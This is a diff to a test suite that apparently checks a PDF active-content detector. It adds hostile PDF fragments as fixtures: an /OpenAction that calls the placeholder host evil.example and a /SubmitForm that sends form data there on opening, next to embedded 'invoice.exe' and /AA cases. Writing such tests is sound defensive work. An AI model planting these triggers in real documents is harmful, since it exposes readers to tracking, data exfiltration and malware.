@@ -93,7 +93,11 @@ describe('PDF active content', () => {
       'an /OpenAction with a URI action',
       '1 0 obj <</Type /Catalog /OpenAction <</S /URI /URI (http://evil.example/)>>>> endobj\n',
     ],
-    ['an /OpenAction to another object', '1 0 obj <</Type /Catalog /OpenAction 5 0 R>> endobj\n'],
+    [
+      'an /OpenAction to an action object',
+      '1 0 obj <</Type /Catalog /OpenAction 5 0 R>> endobj\n5 0 obj <</S /URI /URI (http://evil.example/)>> endobj\n',
+    ],
+    ['a form sent on opening', '5 0 obj <</S /SubmitForm /F (http://evil.example/)>> endobj\n'],
     ['additional actions (/AA)', '3 0 obj <</Type /Page /AA <</O 5 0 R>>>> endobj\n'],
     ['/EmbeddedFiles', '1 0 obj <</Names <</EmbeddedFiles <</Names [(invoice.exe) 7 0 R]>>>>>> endobj\n'],
     ['/RichMedia', '8 0 obj <</Subtype /RichMedia>> endobj\n'],
@@ -115,6 +119,9 @@ describe('PDF active content', () => {
     const link = '4 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://acme.example/)>>>> endobj\n';
     const info = '2 0 obj <</Title (Notes on /JavaScript and /Launch \\) /JS)>> endobj\n';
     expect(await pdfOk(pdfWith(catalog, link, info))).toBe(true);
+    // LaTeX (hyperref) writes the destination as an object of its own.
+    const latex = '1 0 obj <</Type /Catalog /OpenAction 98 0 R>> endobj\n98 0 obj [3 0 R /Fit] endobj\n';
+    expect(await pdfOk(pdfWith(latex))).toBe(true);
     expect(await pdfOk(pdfWith(streamObject('', 'BT /F1 12 Tf (Giulia /JS) Tj ET', true)))).toBe(true);
   });
 
